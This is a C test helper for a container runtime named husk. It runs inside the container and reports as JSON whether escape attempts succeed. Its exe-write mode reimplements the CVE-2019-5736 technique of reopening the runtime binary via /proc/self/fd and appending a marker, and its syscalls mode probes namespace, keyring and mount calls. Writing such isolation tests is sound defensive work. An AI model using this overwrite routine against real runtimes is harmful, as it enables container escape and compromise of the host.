/*
 * husk-attacker: the in-container half of the attack-class tests. Static, so it
 * runs in any rootfs. Every mode prints one JSON object (and, where the test cannot
 * read the container's stdout, also writes it to a file of the rootfs).
 *
 *   husk-attacker exe-write FD OUTFILE
 *       CVE-2019-5736: FD is an O_PATH fd of the runtime binary (taken from
 *       /proc/self/exe while the runtime ran in this process). Reopen it through
 *       /proc/self/fd/FD for writing (retrying while the binary is still being
 *       executed somewhere: ETXTBSY) and append a marker.
 *       {"opened":bool,"errno":N,"wrote":bool}
 *   husk-attacker syscalls
 *       unshare(CLONE_NEWUSER), unshare(CLONE_NEWNS), keyctl(JOIN_SESSION_KEYRING), mount(tmpfs):
 *       {"unshare_user":errno,"unshare_ns":errno,"keyctl":errno,"mount":errno} (0 = it worked)
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static void out(const char* path, const char* text) {
    fputs(text, stdout);
    fflush(stdout);
    if (!path) return;
    char tmp[4096];
    snprintf(tmp, sizeof tmp, "%s.tmp", path);
    int fd = open(tmp, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
    if (fd < 0) return;
    (void)!write(fd, text, strlen(text));
    close(fd);
    rename(tmp, path);
}

static int exe_write(int fd, const char* outfile) {
    char path[64];
    snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
    int w = -1, err = 0;
    /* The runtime binary stays "text busy" while any process still executes it
     * (`husk-runtime start` may not have exited yet): wait that out, ~10 s at most. */
    for (int i = 0; i < 1000; i++) {
        w = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
        err = w < 0 ? errno : 0;
        if (w >= 0 || err != ETXTBSY) break;
        struct timespec ts = {0, 10 * 1000 * 1000};
        nanosleep(&ts, NULL);
    }
    int wrote = 0;
    if (w >= 0) {
        static const char marker[] = "\nPWNED-by-husk-attacker\n";
        wrote = write(w, marker, sizeof marker - 1) == (ssize_t)(sizeof marker - 1);
        if (!wrote) err = errno;
        close(w);
    }
    char buf[256];
    snprintf(buf, sizeof buf, "{\"opened\":%s,\"errno\":%d,\"wrote\":%s}\n",
             w >= 0 ? "true" : "false", err, wrote ? "true" : "false");
    out(outfile, buf);
    return 0;
}

static int err_of(long r) {
    return r == 0 ? 0 : errno;
}

static int syscalls(void) {
    /* Each attempt in its own child, so a success does not change what the next one sees. */
    int results[4];
    for (int i = 0; i < 4; i++) {
        int pfd[2];
        if (pipe(pfd) != 0) return 1;
        pid_t p = fork();
        if (p == 0) {
            int e = 0;
            switch (i) {
                case 0:
                    e = err_of(unshare(CLONE_NEWUSER));
                    break;
                case 1:
                    e = err_of(unshare(CLONE_NEWNS));
                    break;
                case 2:
                    e = syscall(SYS_keyctl, 1 /* KEYCTL_JOIN_SESSION_KEYRING */, 0L) >= 0 ? 0
                                                                                          : errno;
                    break;
                case 3:
                    e = err_of(mount("none", "/tmp", "tmpfs", 0, NULL));
                    break;
            }
            (void)!write(pfd[1], &e, sizeof e);
            _exit(0);
        }
        close(pfd[1]);
        results[i] = -1;
        if (read(pfd[0], &results[i], sizeof results[i]) != sizeof results[i]) results[i] = -1;
        close(pfd[0]);
        while (waitpid(p, NULL, 0) < 0 && errno == EINTR) {
        }
    }
    printf("{\"unshare_user\":%d,\"unshare_ns\":%d,\"keyctl\":%d,\"mount\":%d}\n", results[0],
           results[1], results[2], results[3]);
    return 0;
}

int main(int argc, char** argv) {
    if (argc == 4 && strcmp(argv[1], "exe-write") == 0) return exe_write(atoi(argv[2]), argv[3]);
    if (argc == 2 && strcmp(argv[1], "syscalls") == 0) return syscalls();
    fputs("usage: husk-attacker exe-write FD OUTFILE | syscalls\n", stderr);
    return 2;
}
